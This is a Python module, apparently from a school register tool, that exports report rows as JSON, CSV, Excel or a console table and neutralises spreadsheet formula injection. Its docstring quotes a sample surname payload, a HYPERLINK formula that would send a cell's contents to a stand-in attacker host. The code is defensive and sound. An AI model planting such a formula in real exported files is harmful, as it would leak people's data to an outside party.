"""Writing tables as JSON, CSV, Excel or a terminal table: the CLI's formats and the pages' downloads, from
the same rows.

No text from a school's files is ever written where a spreadsheet would run it (OWASP, "CSV Injection"): a
surname such as `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` is an Excel string cell, and in CSV
begins with a `'`, the prefix OWASP recommends, so a spreadsheet shows it as the text it is.
"""

from __future__ import annotations

import csv
import json
import re
import sys
from collections.abc import Mapping, Sequence
from typing import Any, BinaryIO, TextIO

from rich.console import Console
from rich.table import Table

from rollbook.rules.comparison import display


def write_json(data: Any, stream: TextIO | None = None) -> None:
    stream = stream or sys.stdout  # looked up per call, so a redirected stdout is honoured
    json.dump(data, stream, indent=2, default=str)
    stream.write("\n")


#: What a cell's text may start with for a spreadsheet to read it as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert(value: Any) -> Any:
    """A CSV cell's value as no spreadsheet evaluates it: text that starts as a formula does gets a leading
    `'`; numbers, dates and any other text are as they were, a number written as text (-1.5) too, and a
    lone sign (the register's "-" for no mark), which is no formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and (len(value) > 1 or value == "=")
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def write_csv(
    rows: Sequence[Mapping[str, Any]], stream: TextIO | None = None, columns: Sequence[str] | None = None
) -> None:
    """The rows as CSV under a heading row: `columns`, or else every row's keys (nothing for no rows). Lines
    end CRLF, as RFC 4180 has them, so that a cell holding a line break (\\r too) is quoted."""
    if not rows and columns is None:
        return
    columns = list(columns) if columns is not None else _columns(rows)
    writer = csv.DictWriter(stream or sys.stdout, fieldnames=columns, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({column: inert(value) for column, value in row.items()} for row in rows)


def write_xlsx(rows: Sequence[Mapping[str, Any]], stream: BinaryIO, title: str = "Report") -> None:
    """A one-sheet workbook of the rows with a bold, frozen header; figures stay unrounded, as in CSV."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook(write_only=False)
    sheet = book.active
    # Excel refuses some characters in sheet names and cuts them at 31; the whole title is the workbook's.
    sheet.title = re.sub(r"[\\/*?:\[\]]", "-", title)[:31]
    book.properties.title = title
    columns = _columns(rows)
    sheet.append(columns)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    for row in rows:
        sheet.append([row.get(column) for column in columns])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl makes text starting "=" a formula: it is text
    book.save(stream)


def write_table(rows: Sequence[Mapping[str, Any]], title: str = "", console: Console | None = None) -> None:
    table = Table(title=title or None)
    columns = list(rows[0]) if rows else []
    for column in columns:
        heading = column.replace("_", " ")
        table.add_column(heading[:1].upper() + heading[1:], overflow="fold")
    for row in rows:
        table.add_row(*(_cell(row[column]) for column in columns))
    (console or Console()).print(table)


def _columns(rows: Sequence[Mapping[str, Any]]) -> list[str]:
    """Every row's columns, first seen first: rows of one report need not all carry the same keys."""
    return list(dict.fromkeys(key for row in rows for key in row))


def _cell(value: Any) -> str:
    if value is None:
        return "–"
    if isinstance(value, float):
        return display(value, 1)
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)
